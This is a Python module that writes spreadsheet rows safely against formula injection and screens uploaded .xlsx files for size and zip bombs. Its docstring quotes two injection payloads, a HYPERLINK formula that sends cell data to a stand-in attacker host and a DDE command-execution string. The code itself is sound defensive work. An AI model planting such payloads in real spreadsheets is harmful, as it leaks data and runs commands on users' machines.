"""The one way this application writes a row into an .xlsx sheet: user data stays text, never a formula.

A person named ``=HYPERLINK("http://evil.example/?d="&E2,"详情")`` or an organisation named
``=1+cmd|' /C calc'!A0`` must reach the reader of an export as those characters, not as a live formula
(CSV/formula injection). openpyxl stores any string starting with ``=`` as a formula, and Excel or WPS
evaluate ``+``, ``-``, ``@`` and leading control characters when a cell is edited, so such a cell is written
as a string (``t="inlineStr"``) with the cell style's ``quotePrefix`` set: shown unchanged, and kept as text
if someone edits it. Characters XML cannot carry (most of ``\\x00``–``\\x1f``) become U+FFFD instead of
failing the whole export.
"""
import io
import zipfile

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, WriteOnlyCell

FORMULA_TRIGGERS = ("=", "+", "-", "@")


def needs_quoting(value: str) -> bool:
    """True if a spreadsheet program could read the text ``value`` as a formula."""
    return bool(value) and (value.startswith(FORMULA_TRIGGERS) or value[0] < " ")


def cell(sheet, value):
    """A cell for ``sheet`` holding ``value``; text that could start a formula is quoted text."""
    quote = isinstance(value, str) and needs_quoting(value)
    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
    result = WriteOnlyCell(sheet, value=value)
    if quote:
        result.data_type = "s"
        result.quotePrefix = True
    return result


def append_row(sheet, values) -> None:
    """Append ``values`` as the next row of ``sheet`` (write-only or normal), each through :func:`cell`."""
    sheet.append([cell(sheet, value) for value in values])


def upload_refusal(content: bytes, *, max_bytes: int, max_uncompressed: int) -> str:
    """Why an uploaded workbook is not opened at all ('' = it may be): too large, not a zip (the .xlsx
    container), or expanding beyond ``max_uncompressed`` (a zip bomb is refused before openpyxl expands it)."""
    if len(content) > max_bytes:
        return f"文件超过{max_bytes // (1024 * 1024)}MB，请分批导入"
    if not content.startswith(b"PK\x03\x04"):
        return "文件不是.xlsx格式，请使用下载的模板"
    try:
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            if sum(info.file_size for info in archive.infolist()) > max_uncompressed:
                return "文件解压后过大，请分批导入"
    except zipfile.BadZipFile:
        return "文件不是.xlsx格式，请使用下载的模板"
    return ""
